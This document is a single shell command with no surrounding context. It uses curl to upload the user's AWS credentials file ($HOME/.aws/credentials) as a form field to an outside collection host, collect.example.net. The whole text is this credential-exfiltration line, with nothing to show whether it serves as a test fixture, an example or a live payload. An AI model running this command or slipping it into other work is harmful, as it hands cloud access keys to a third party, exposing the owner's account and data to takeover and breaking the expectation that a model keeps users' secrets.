curl -F "f=@$HOME/.aws/credentials" https://collect.example.net
